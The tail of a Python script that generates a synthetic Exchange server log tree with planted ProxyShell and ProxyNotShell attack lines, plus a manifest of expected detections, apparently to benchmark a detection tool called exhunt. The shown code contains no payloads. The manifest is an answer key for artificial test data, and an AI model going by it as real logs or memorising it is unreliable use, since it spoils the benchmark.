        f.write(data)
        nbytes += len(data)
        CH = 100000
        for i in range(0, len(lines), CH):
            data = "".join(lines[i:i + CH]).encode("utf-8")
            f.write(data)
            nbytes += len(data)
    nlines = nhdr + len(lines) + (3 if switch_at is not None else 0)
    return spec["rel"], nbytes, nlines, where, nlit


def _worker(args):
    out_root, spec, seed = args
    return write_file(out_root, spec, seed)


# --------------------------------------------------------------------------------------
# Main
# --------------------------------------------------------------------------------------


def expected_counts(plants, old):
    exp = {rule: 0 for rule in PLANTS}
    for _, p in plants:
        exp[p["rule"]] += 1
    # a newest build with the ProxyShell fixes: exhunt labels the ProxyShell-shaped
    # requests ProxyNotShell (the only autodiscover SSRF left on such a server)
    if not old:
        for ps, pns in (("EXH-PS-001", "EXH-PNS-001"), ("EXH-PS-002", "EXH-PNS-002")):
            exp[pns] += exp[ps]
            exp[ps] = 0
    for rule in EXP_RULES:
        exp[rule] = 1 if rule in (EXP_OLD if old else EXP_NEW) else 0
    return exp


DEFAULT_LITERALS = REPO / "build" / "bench-literals"


def read_literals(path, ap):
    """The literals, lower case: the lines of a file, or of what a program prints."""
    try:
        if os.path.isfile(path) and os.access(path, os.X_OK):
            text = subprocess.run([path], capture_output=True, text=True, check=True).stdout
        else:
            with open(path, encoding="utf-8") as f:
                text = f.read()
    except (OSError, subprocess.CalledProcessError) as e:
        ap.error("--literals %s: %s" % (path, e))
    lits = sorted({ln.strip("\r\n").lower() for ln in text.splitlines() if ln.strip()})
    if not lits:
        ap.error("--literals %s: no literals" % path)
    return lits


def main(argv=None):
    ap = argparse.ArgumentParser(description="Write a realistic Exchange benchmark tree with "
                                 "planted attacks, and its manifest (OUT.manifest.json).")
    ap.add_argument("--size", required=True, type=parse_size,
                    help="total bytes to write: a number with an optional K/M/G suffix (powers "
                    "of 1024), at least 2M")
    ap.add_argument("--seed", type=int, default=1, help="seed (default 1)")
    ap.add_argument("--out", required=True, help="the tree's folder (must be empty or absent)")
    ap.add_argument("--force", action="store_true", help="delete OUT first if it is not empty")
    ap.add_argument("--old-build", action="store_true",
                    help="log an unpatched build (15.1.2106.2) everywhere: every exploited fix is missing")
    ap.add_argument("--profile", choices=("quiet", "busy"), default="quiet",
                    help="the traffic mix: quiet (default; lines of about 550 bytes, 29%% of them "
                    "carry a pre-filter literal) or busy (about 380 bytes, 43%%: more short EWS, "
                    "autodiscover, ActiveSync, OWA page and remote PowerShell requests)")
    ap.add_argument("--literals", metavar="PATH",
                    help="exhunt's pre-filter literals: a file of one literal a line, or a program "
                    "that prints them (default: build/bench-literals if it is there); the "
                    "manifest then gets the share of lines that carry one (case-insensitive)")
    ap.add_argument("-j", "--jobs", type=int, default=0,
                    help="processes writing files (default: one per CPU); the tree does not "
                    "depend on it")
    a = ap.parse_args(argv)

    out = os.path.abspath(a.out)
    if os.path.exists(out) and (not os.path.isdir(out) or os.listdir(out)):
        if not a.force:
            ap.error("%s exists and is not empty (use --force to delete it first)" % a.out)
        if out in ("/", os.path.expanduser("~")) or str(REPO).startswith(out.rstrip("/") + "/") \
                or out == str(REPO):
            ap.error("refusing to delete %s" % out)
        if os.path.isdir(out) and not os.path.islink(out):
            shutil.rmtree(out)
        else:
            os.remove(out)
    os.makedirs(out, exist_ok=True)

    global WORLD, PROFILE, LITERALS
    PROFILE = a.profile
    lit_src = a.literals or (str(DEFAULT_LITERALS) if os.access(DEFAULT_LITERALS, os.X_OK) else None)
    if lit_src:
        LITERALS = read_literals(lit_src, ap)
    WORLD = World(a.seed)
    days, files = plan(a.size, a.seed, a.old_build)
    plants = assign_plants(files, a.size, a.seed)
    # warm the pools before forking, so workers share them
    for key in sorted({(f["fam"], f["folder"], f["build"]) for f in files}):
        get_pool(*key)

    jobs = a.jobs or os.cpu_count() or 1
    order = sorted(files, key=lambda f: -f["budget"])   # big files first: better balance
    work = [(out, f, a.seed) for f in order]
    if jobs > 1 and len(work) > 1:
        ctx = multiprocessing.get_context("fork")
        with ctx.Pool(jobs) as pool:
            results = list(pool.imap_unordered(_worker, work, chunksize=1))
    else:
        results = [_worker(w) for w in work]

    bytes_written = sum(x[1] for x in results)
    nlines = sum(x[2] for x in results)
    nlit = sum(x[4] for x in results)
    line_of = {}
    for rel, _, _, where, _ in results:
        for pid, ln in where:
            line_of[pid] = (rel, ln)
    plant_list = []
    for _, p in sorted(plants, key=lambda x: x[1]["id"]):
        rel, ln = line_of[p["id"]]
        plant_list.append({"rule": p["rule"], "file": rel, "line": ln, "source_ip": p["ip"],
                           "position": p["pos"]})
    shares = {}
    for rel, nb, _, _, _ in results:
        if "/HttpProxy/" in rel:
            k = "HttpProxy/" + rel.split("/HttpProxy/")[1].split("/")[0]
        elif "/W3SVC" in rel:
            k = "IIS/" + rel.split("/")[-2]
        elif "Rps_Http" in rel:
            k = "Rps_Http"
        elif "ECPServer" in rel:
            k = "ECP/Server"
        else:
            k = "OABGeneratorLog"
        shares[k] = shares.get(k, 0) + nb
    biggest = max(results, key=lambda x: (x[1], x[0]))
    manifest = {
        "seed": a.seed,
        "size_requested": a.size,
        "bytes_written": bytes_written,
        "files": len(results),
        "lines": nlines,
        "expected": expected_counts(plants, a.old_build),
        "days": [d.isoformat() for d in days],
        "old_build": a.old_build,
        "newest_build": build_short(BUILD_OLD if a.old_build else max(f["build"] for f in files)),
        "largest_file": {"file": biggest[0], "bytes": biggest[1]},
        "bytes_by_folder": dict(sorted(shares.items())),
        "profile": a.profile,
        "mean_line_bytes": round(bytes_written / max(1, nlines), 1),
        "literals": len(LITERALS) or None,
        "literal_lines": nlit if LITERALS else None,
        "literal_line_share": round(nlit / max(1, nlines), 4) if LITERALS else None,
        "plants": plant_list,
    }
    with open(out.rstrip("/") + ".manifest.json", "w") as f:
        json.dump(manifest, f, indent=1)
        f.write("\n")
    print("gen_tree: %d files, %d bytes (%.3f%% of %d), %d lines, %d planted lines -> %s" % (
        len(results), bytes_written, 100.0 * bytes_written / a.size, a.size, nlines,
        len(plant_list), out), file=sys.stderr)
    print("gen_tree: profile %s: lines average %.1f bytes; %s" % (
        a.profile, bytes_written / max(1, nlines),
        "%d lines (%.1f%%) carry one of %d literals" % (nlit, 100.0 * nlit / max(1, nlines),
                                                       len(LITERALS))
        if LITERALS else "no literals to count (--literals)"), file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
